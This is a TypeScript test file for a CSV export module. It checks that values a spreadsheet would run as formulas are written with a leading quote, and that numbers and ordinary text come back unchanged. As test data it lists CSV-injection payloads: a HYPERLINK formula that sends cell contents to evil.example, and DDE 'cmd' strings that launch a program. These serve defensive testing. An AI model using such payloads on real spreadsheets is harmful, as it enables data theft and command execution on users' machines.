import { parse } from 'csv-parse/sync';
import { BOM, csvLine, type Cell, type Delimiter } from '../../src/export/csvText.js';
import { at } from '../support/defined.js';

const csvDocument = (rows: Cell[][], delimiter: Delimiter) => BOM + rows.map((row) => csvLine(row, delimiter)).join('');

const read = (text: string, delimiter: string): string[][] =>
  parse(text, { bom: true, delimiter, relax_column_count: true });

describe.each([',', ';'] as const)('with "%s"', (delimiter) => {
  test('text a spreadsheet would run as a formula is read back as text, with a leading quote', () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?"&A1,"klik")',
      '+31 6 1234',
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];
    const row = at(read(csvDocument([attacks], delimiter), delimiter), 0, 'CSV row');
    expect(row).toEqual(attacks.map((a) => `'${a}`));
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('numbers stay numbers, ordinary text stays as typed', () => {
    const cells: Cell[] = ['R1', -3, 0, 2, 'Zei "ja"; maar, eerlijk', 'a = b', '3 - 1', ''];
    const [row] = read(csvDocument([cells], delimiter), delimiter);
    expect(row).toEqual(['R1', '-3', '0', '2', 'Zei "ja"; maar, eerlijk', 'a = b', '3 - 1', '']);
  });
});
